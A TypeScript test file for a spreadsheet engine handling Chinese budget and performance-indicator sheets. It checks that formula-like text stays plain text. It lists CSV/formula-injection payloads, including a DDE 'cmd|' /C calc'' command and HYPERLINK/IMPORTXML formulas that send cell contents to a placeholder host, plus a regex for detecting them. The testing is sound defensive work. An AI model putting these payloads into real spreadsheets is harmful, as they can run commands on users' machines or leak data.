/** Text that looks like a formula or a DDE command, in every place the engine reads or writes text. */
import * as assert from "assert";
import { budgetRows, indicatorRows, workbook } from "./build";
import type { CaseRun, ReliabilityCase } from "./types";

/** Formula-like and DDE payloads, as a user (or an attacker) might type or paste them. */
export const HOSTILE_TEXT = [
  "=1+1",
  "+SUM(A1:A2)",
  "-2+3",
  "@SUM(A1)",
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?x="&A1,"点击")',
  '=IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")',
  "\t=1+1",
  "＝1+1",
] as const;

/** A formula with its string literals removed: what Excel would evaluate outside quoted text. */
function outsideStrings(formula: string): string {
  return formula.replace(/"(?:[^"]|"")*"/g, '""');
}

/** No formula in the output carries a DDE pipe, a HYPERLINK or an IMPORT outside a string literal. */
export function assertNoInjectedFormula({ after }: CaseRun): void {
  for (const s of after.sheets)
    s.rows.forEach((row, r) =>
      row.forEach((c, col) => {
        if (!c?.formula) return;
        const code = outsideStrings(c.formula);
        assert.ok(
          !/\||HYPERLINK|IMPORT|cmd/i.test(code),
          `${s.name} r${r + 1}c${col + 1}: formula ${c.formula}`,
        );
      }),
    );
}

/** Every hostile string that was in the input is somewhere in the output as plain text. */
function assertHostileTextKept(run: CaseRun): void {
  const texts = new Set<string>();
  for (const s of run.after.sheets)
    for (const row of s.rows)
      for (const c of row) if (c && !c.formula && typeof c.value === "string") texts.add(c.value);
  for (const t of HOSTILE_TEXT) assert.ok(texts.has(t), `"${t}" is still text`);
  assertNoInjectedFormula(run);
}

export const hostileCases: readonly ReliabilityCase[] = [
  {
    id: "formula-like-names",
    group: "hostile",
    title: "Indicator and budget-line names starting with =, +, -, @, tab and full-width ＝",
    gets: "ok: read and written back as text everywhere (cells, summary sheet, report); no formula made from them",
    build: () =>
      workbook([
        {
          name: "支出",
          rows: budgetRows([
            ["合计", 100, 95, null, 10, null],
            [HOSTILE_TEXT[0], 60, 57, null, null, null],
            [HOSTILE_TEXT[1], 40, 38, null, null, null],
          ]),
        },
        {
          name: "绩效指标",
          rows: indicatorRows(
            HOSTILE_TEXT.slice(2).map((t, i) => [
              HOSTILE_TEXT[(i + 3) % 10],
              "数量指标",
              t,
              "≥10场",
              i < 4 ? "8场" : "10场",
              10,
              null,
              null,
            ]),
          ),
        },
      ]),
    expect: { kind: "ok", check: assertHostileTextKept },
  },
  {
    id: "dde-reasons-and-actuals",
    group: "hostile",
    title: "DDE payloads and formula text in 偏差原因, 实际完成值 and 年度指标值",
    gets: "ok: payloads stay text; targets/actuals that are not numbers are flagged (unparsed-target, missing-actual) with their cells",
    build: () =>
      workbook([
        { name: "支出", rows: budgetRows() },
        {
          name: "绩效指标",
          rows: indicatorRows([
            ["产出指标", "数量指标", "培训场次", "≥10场", "8场", 30, null, HOSTILE_TEXT[4]],
            ["产出指标", "质量指标", "合格率", HOSTILE_TEXT[5], "96%", 30, null, HOSTILE_TEXT[6]],
            ["效益指标", "社会效益", "群众满意度", "≥90%", HOSTILE_TEXT[7], 30, null, HOSTILE_TEXT[3]],
            ["效益指标", "社会效益", "知晓率", HOSTILE_TEXT[0], HOSTILE_TEXT[1], 0, null, HOSTILE_TEXT[8]],
            ["效益指标", "社会效益", "投诉率", "≤5%", "3%", 0, null, HOSTILE_TEXT[9]],
            ["效益指标", "社会效益", "回访率", "≥10%", HOSTILE_TEXT[2], 0, null, null],
          ]),
        },
      ]),
    expect: {
      kind: "ok",
      flags: [
        { code: "below-target", cell: "绩效指标!E2" },
        { code: "missing-actual", cell: "绩效指标!E4" },
      ],
      check: assertHostileTextKept,
    },
  },
];
